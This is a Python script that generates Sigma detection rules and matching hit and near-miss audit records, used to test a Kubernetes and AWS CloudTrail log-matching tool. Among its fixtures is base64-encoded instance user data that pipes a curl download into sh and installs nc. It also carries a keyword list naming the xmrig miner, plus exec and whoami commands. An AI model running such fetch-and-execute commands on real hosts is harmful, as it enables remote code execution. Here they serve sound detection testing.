#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""The cases of tests/sigma.sh: each rule NAME.yml with the records that must
fire it (NAME.hit.jsonl) and its near misses (NAME.miss.jsonl).  Run once in
tests/sigma/; the generated files are committed."""
import json, base64, copy
K8S = {"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"","stage":"ResponseComplete",
 "requestURI":"/api/v1/namespaces/default/pods/web","verb":"get",
 "user":{"username":"alice","groups":["system:authenticated"]},"sourceIPs":["203.0.113.9"],
 "userAgent":"kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
 "objectRef":{"resource":"pods","namespace":"default","name":"web","apiVersion":"v1"},
 "responseStatus":{"metadata":{},"code":200},
 "requestReceivedTimestamp":"2026-11-20T10:00:00.000000Z","stageTimestamp":"2026-11-20T10:00:00.100000Z",
 "annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":""}}
CT = {"eventVersion":"1.08","userIdentity":{"type":"IAMUser","principalId":"AIDAEXAMPLE","arn":"arn:aws:iam::111122223333:user/bob",
 "accountId":"111122223333","accessKeyId":"AKIAIOSFODNN7EXAMPLE","userName":"bob"},"eventTime":"2026-11-20T10:00:00Z",
 "eventSource":"iam.amazonaws.com","eventName":"ListUsers","awsRegion":"us-east-1","sourceIPAddress":"203.0.113.7",
 "userAgent":"aws-cli/2.15.0","requestParameters":None,"responseElements":None,"requestID":"",
 "eventID":"","readOnly":True,"eventType":"AwsApiCall","managementEvent":True,"recipientAccountId":"111122223333","eventCategory":"Management"}
n=[0]
def setp(d,path,v):
    ks=path.split('.')
    for k in ks[:-1]:
        if not isinstance(d.get(k),dict): d[k]={}
        d=d[k]
    if v is DEL: d.pop(ks[-1],None)
    else: d[ks[-1]]=v
DEL=object()
def rec(src, t=0, **kv):
    n[0]+=1
    r=copy.deepcopy(K8S if src=='k' else CT)
    ts="2026-11-20T10:%02d:%02d"%(t//60,t%60)
    if src=='k':
        r["auditID"]="00000000-0000-4000-8000-%012d"%n[0]; r["requestReceivedTimestamp"]=ts+".000000Z"; r["stageTimestamp"]=ts+".100000Z"
    else:
        r["eventID"]="00000000-0000-4000-9000-%012d"%n[0]; r["requestID"]="req-%d"%n[0]; r["eventTime"]=ts+"Z"
    for k,v in kv.items(): setp(r,k.replace('__','.'),v)
    return json.dumps(r)
def w(name, yml, hits, misses):
    open(name+".yml","w").write(yml)
    open(name+".hit.jsonl","w").write("".join(h+"\n" for h in hits))
    open(name+".miss.jsonl","w").write("".join(h+"\n" for h in misses))
HDR=lambda title, i, src='k', level='medium', tags='[attack.t1609]': f"""title: "{title}"
id: 5e1a0000-0000-4000-a000-{i:012d}
status: test
description: A rule of k8saudit's own tests.
author: k8saudit tests
date: 2026-12-07
tags: {tags}
logsource:
    product: {'kubernetes' if src=='k' else 'aws'}
    service: {'audit' if src=='k' else 'cloudtrail'}
level: {level}
"""
w("equal-nocase", HDR("Case-insensitive equality, lists and maps",1)+"""detection:
    selection:
        verb: CREATE
        objectRef.resource:
            - Secrets
            - ConfigMaps
    condition: selection
""", [rec('k',verb="create",objectRef__resource="secrets"), rec('k',verb="Create",objectRef__resource="configmaps")],
 [rec('k',verb="create",objectRef__resource="pods"), rec('k',verb="get",objectRef__resource="secrets")])
w("cased", HDR("Cased match",2)+"""detection:
    selection:
        userAgent|cased|startswith: 'Mozilla/'
    condition: selection
""", [rec('k',userAgent="Mozilla/5.0 (X11; Linux x86_64)")], [rec('k',userAgent="mozilla/5.0 (X11; Linux x86_64)")])
w("contains", HDR("Contains, case-insensitive",3)+"""detection:
    selection:
        requestURI|contains: '/EXEC?'
    condition: selection
""", [rec('k',requestURI="/api/v1/namespaces/default/pods/web/exec?command=sh&stdin=true")],
 [rec('k',requestURI="/api/v1/namespaces/default/pods/web/log?container=app")])
w("starts-ends", HDR("Startswith and endswith",4)+"""detection:
    selection:
        user.username|startswith: 'system:serviceaccount:'
        objectRef.name|endswith: '-ADMIN'
    condition: selection
""", [rec('k',user__username="system:serviceaccount:ci:deployer",objectRef__name="cluster-admin")],
 [rec('k',user__username="system:serviceaccount:ci:deployer",objectRef__name="cluster-admin-x"),
  rec('k',user__username="alice:system:serviceaccount:",objectRef__name="cluster-admin")])
w("contains-all", HDR("Contains all",5)+"""detection:
    selection:
        userAgent|contains|all:
            - python
            - requests
    condition: selection
""", [rec('k',userAgent="Python-Requests/2.31.0")], [rec('k',userAgent="python-urllib3/2.0")])
w("wildcards", HDR("Wildcards and escaped wildcards",6)+r"""detection:
    selection_name:
        objectRef.name: 'web-?-*'
    selection_ns:
        objectRef.namespace: 'team\*star\?'
    condition: selection_name and selection_ns
""", [rec('k',objectRef__name="WEB-1-abc",objectRef__namespace="team*star?")],
 [rec('k',objectRef__name="web-12-abc",objectRef__namespace="team*star?"),
  rec('k',objectRef__name="web-1-abc",objectRef__namespace="teamXstar?")])
w("regex", HDR("Regular expressions, cased and with i",7)+"""detection:
    selection_re:
        requestURI|re: '/pods/[a-z0-9-]+/exec'
    selection_re_i:
        userAgent|re|i: '^curl/[0-9]+'
    condition: selection_re and selection_re_i
""", [rec('k',requestURI="/api/v1/namespaces/default/pods/web-1/exec",userAgent="CURL/8.4.0")],
 [rec('k',requestURI="/api/v1/namespaces/default/pods/Web-1/exec",userAgent="curl/8.4.0"),
  rec('k',requestURI="/api/v1/namespaces/default/pods/web-1/exec",userAgent="xcurl/8.4.0")])
w("cidr", HDR("CIDR over an array of addresses",8)+"""detection:
    selection:
        sourceIPs|cidr:
            - 10.0.0.0/8
            - 'fd00::/8'
    condition: selection
""", [rec('k',sourceIPs=["203.0.113.9","10.1.2.3"]), rec('k',sourceIPs=["fd12:3456::1"])],
 [rec('k',sourceIPs=["203.0.113.9","11.0.0.1"]), rec('k',sourceIPs=["fe80::1"])])
w("exists", HDR("Exists true and false",9)+"""detection:
    selection:
        impersonatedUser|exists: true
        requestObject.spec.hostNetwork|exists: false
    condition: selection
""", [rec('k',impersonatedUser={"username":"system:admin"})],
 [rec('k'), rec('k',impersonatedUser={"username":"system:admin"},requestObject={"spec":{"hostNetwork":False}})])
w("numbers", HDR("Numeric comparisons",10)+"""detection:
    selection:
        responseStatus.code|gte: 400
    filter:
        responseStatus.code|gt: 499
    condition: selection and not filter
""", [rec('k',responseStatus__code=403)], [rec('k',responseStatus__code=500), rec('k',responseStatus__code=399)])
w("fieldref", HDR("Field reference",11,'c')+"""detection:
    selection:
        eventName: CreateAccessKey
        requestParameters.userName|fieldref: userIdentity.userName
    condition: selection
""", [rec('c',eventName="CreateAccessKey",requestParameters={"userName":"bob"})],
 [rec('c',eventName="CreateAccessKey",requestParameters={"userName":"carol"})])
ud_hit=base64.b64encode(b"#!/bin/bash\nyum -y install nc\ncurl http://198.51.100.4/x|sh\n").decode()
ud_hit2=base64.b64encode(b"##!/bin/bash\ncurl -s http://198.51.100.4/x|sh\n").decode()
ud_miss=base64.b64encode(b"#!/bin/sh\nyum -y install nc\nwget http://198.51.100.4/x\n").decode()
w("base64", HDR("Base64 and base64offset",12,'c')+"""detection:
    selection_event:
        eventName: ModifyInstanceAttribute
    selection_offset:
        requestParameters.userData|base64offset|contains: 'curl http'
    selection_whole:
        requestParameters.policyName|base64: 'backdoor'
    condition: selection_event and 1 of selection_offset or selection_whole
""", [rec('c',eventName="ModifyInstanceAttribute",requestParameters={"userData":ud_hit}),
      rec('c',eventName="PutUserPolicy",requestParameters={"policyName":base64.b64encode(b"backdoor").decode()})],
 [rec('c',eventName="ModifyInstanceAttribute",requestParameters={"userData":ud_miss}),
  rec('c',eventName="PutUserPolicy",requestParameters={"policyName":base64.b64encode(b"backdoors").decode()})])
w("windash", HDR("Windash",13)+"""detection:
    selection:
        requestObject.command|windash|contains: ' -c whoami'
    condition: selection
""", [rec('k',requestObject={"command":"cmd.exe /c whoami"}), rec('k',requestObject={"command":"sh -c whoami"})],
 [rec('k',requestObject={"command":"cmd.exe xc whoami"})])
w("null", HDR("Null: absent or null",14)+"""detection:
    selection:
        verb: delete
        objectRef.namespace: null
    condition: selection
""", [rec('k',verb="delete",objectRef={"resource":"nodes","name":"ip-10-0-0-1"}),
      rec('k',verb="delete",objectRef={"resource":"nodes","name":"n","namespace":None})],
 [rec('k',verb="delete")])
w("arrays", HDR("Any element of an array",15)+"""detection:
    selection:
        user.groups: 'SYSTEM:MASTERS'
    condition: selection
""", [rec('k',user={"username":"x","groups":["system:authenticated","system:masters"]})],
 [rec('k',user={"username":"x","groups":["system:authenticated","system:masters-not"]})])
w("keywords", HDR("Keywords in the record's text",16)+"""detection:
    keywords:
        - 'xmrig'
        - 'evil*tool'
    condition: keywords
""", [rec('k',userAgent="XMRig/6.21.0"), rec('k',userAgent="Evil-Tool/1.0")],
 [rec('k',userAgent="xm-rig/6.21.0")])
w("cond-not-1-of", HDR("Condition: and not 1 of",17,'c')+"""detection:
    selection:
        eventSource: iam.amazonaws.com
        eventName|startswith: 'Create'
    filter_main_svc:
        userIdentity.type: AWSService
    filter_main_name:
        userIdentity.userName: terraform
    condition: selection and not 1 of filter_main_*
""", [rec('c',eventName="CreateUser")],
 [rec('c',eventName="CreateUser",userIdentity__userName="terraform"), rec('c',eventName="CreateUser",userIdentity__type="AWSService")])
w("cond-all-of", HDR("Condition: all of a pattern",18,'c')+"""detection:
    sel_source:
        eventSource: s3.amazonaws.com
    sel_name:
        eventName: PutBucketPolicy
    other:
        awsRegion: eu-west-1
    condition: all of sel_*
""", [rec('c',eventSource="s3.amazonaws.com",eventName="PutBucketPolicy")],
 [rec('c',eventSource="s3.amazonaws.com",eventName="GetBucketPolicy",awsRegion="eu-west-1")])
w("cond-1-of-them", HDR("Condition: 1 of them",19,'c')+"""detection:
    a:
        eventName: StopLogging
    b:
        eventName: DeleteTrail
    _helper:
        eventName: ListUsers
    condition: 1 of them
""", [rec('c',eventName="StopLogging"), rec('c',eventName="DeleteTrail")], [rec('c',eventName="ListUsers")])
w("cond-all-of-them", HDR("Condition: all of them",20,'c')+"""detection:
    a:
        eventSource: cloudtrail.amazonaws.com
    b:
        eventName: StopLogging
    condition: all of them
""", [rec('c',eventSource="cloudtrail.amazonaws.com",eventName="StopLogging")],
 [rec('c',eventSource="cloudtrail.amazonaws.com",eventName="StartLogging")])
w("cond-parens", HDR("Condition: parentheses and a list of conditions",21)+"""detection:
    exec:
        objectRef.subresource: exec
    attach:
        objectRef.subresource: attach
    kube_system:
        objectRef.namespace: kube-system
    denied:
        responseStatus.code: 403
    condition:
        - (exec or attach) and not kube_system
        - denied and kube_system
""", [rec('k',objectRef__subresource="attach"), rec('k',objectRef__namespace="kube-system",responseStatus__code=403)],
 [rec('k',objectRef__subresource="exec",objectRef__namespace="kube-system"), rec('k',responseStatus__code=403)])
# correlations
CHDR=lambda title,i: f"""title: {title}
id: 5e1a0000-0000-4000-b000-{i:012d}
author: k8saudit tests
level: high
"""
def base(title,i,name,det,src='k'):
    return HDR(title,i,src).replace("title: \"%s\"\n" % title, "title: \"%s\"\nname: %s\n" % (title, name))+det
sread=base("Secret read",101,"secret_read","""detection:
    selection:
        verb: get
        objectRef.resource: secrets
    condition: selection
""")
w("corr-event-count", sread+"---\n"+CHDR("Many secret reads by one user",1)+"""correlation:
    type: event_count
    rules:
        - secret_read
    group-by:
        - user.username
    timespan: 5m
    condition:
        gte: 3
""", [rec('k',0,verb="get",objectRef__resource="secrets",objectRef__name="a"),
      rec('k',60,verb="get",objectRef__resource="secrets",objectRef__name="b"),
      rec('k',120,verb="get",objectRef__resource="secrets",objectRef__name="c")],
 [rec('k',0,verb="get",objectRef__resource="secrets",objectRef__name="a"),
  rec('k',200,verb="get",objectRef__resource="secrets",objectRef__name="b"),
  rec('k',400,verb="get",objectRef__resource="secrets",objectRef__name="c"),
  rec('k',100,verb="get",objectRef__resource="secrets",objectRef__name="c",user__username="bob")])
w("corr-value-count", sread.replace("101","102").replace("secret_read","secret_read2")+"---\n"+CHDR("Many distinct secrets read by one user",2)+"""correlation:
    type: value_count
    rules: secret_read2
    group-by:
        - user.username
    timespan: 10m
    condition:
        field: objectRef.name
        gt: 2
""", [rec('k',0,verb="get",objectRef__resource="secrets",objectRef__name="a"),
      rec('k',60,verb="get",objectRef__resource="secrets",objectRef__name="b"),
      rec('k',120,verb="get",objectRef__resource="secrets",objectRef__name="c")],
 [rec('k',0,verb="get",objectRef__resource="secrets",objectRef__name="a"),
  rec('k',60,verb="get",objectRef__resource="secrets",objectRef__name="b"),
  rec('k',120,verb="get",objectRef__resource="secrets",objectRef__name="b")])
sa=base("Service account created",103,"sa_created","""detection:
    selection:
        verb: create
        objectRef.resource: serviceaccounts
    condition: selection
""")
crb=base("Cluster role binding created",104,"crb_created","""detection:
    selection:
        verb: create
        objectRef.resource: clusterrolebindings
    condition: selection
""")
w("corr-temporal", sa+"---\n"+crb+"---\n"+CHDR("Service account created and bound",3)+"""correlation:
    type: temporal
    rules:
        - sa_created
        - crb_created
    group-by:
        - user.username
    timespan: 10m
""", [rec('k',300,verb="create",objectRef__resource="clusterrolebindings"), rec('k',0,verb="create",objectRef__resource="serviceaccounts")],
 [rec('k',0,verb="create",objectRef__resource="serviceaccounts"),
  rec('k',300,verb="create",objectRef__resource="clusterrolebindings",user__username="bob"),
  rec('k',100,verb="create",objectRef__resource="serviceaccounts",user__username="carol"),
  rec('k',900,verb="create",objectRef__resource="clusterrolebindings",user__username="carol")])
sa2=sa.replace("103","105").replace("sa_created","sa_created2"); crb2=crb.replace("104","106").replace("crb_created","crb_created2")
w("corr-temporal-ordered", sa2+"---\n"+crb2+"---\n"+CHDR("Service account created, then bound",4)+"""correlation:
    type: temporal_ordered
    rules:
        - sa_created2
        - crb_created2
    group-by:
        - user.username
    timespan: 10m
    generate: true
""", [rec('k',0,verb="create",objectRef__resource="serviceaccounts"), rec('k',300,verb="create",objectRef__resource="clusterrolebindings")],
 [rec('k',300,verb="create",objectRef__resource="serviceaccounts"), rec('k',0,verb="create",objectRef__resource="clusterrolebindings")])
w("any-value", HDR("A lone wildcard: any value but null",22)+"""detection:
    selection:
        verb: create
        requestObject.spec.volumes.hostPath: '*'
    condition: selection
""", [rec('k',verb="create",requestObject={"spec":{"volumes":[{"name":"a"},{"name":"b","hostPath":{"path":"/"}}]}}),
      rec('k',verb="create",requestObject={"spec":{"volumes":[{"name":"b","hostPath":""}]}})],
 [rec('k',verb="create",requestObject={"spec":{"volumes":[{"name":"a","hostPath":None}]}}),
  rec('k',verb="create",requestObject={"spec":{"volumes":[{"name":"a"}]}})])
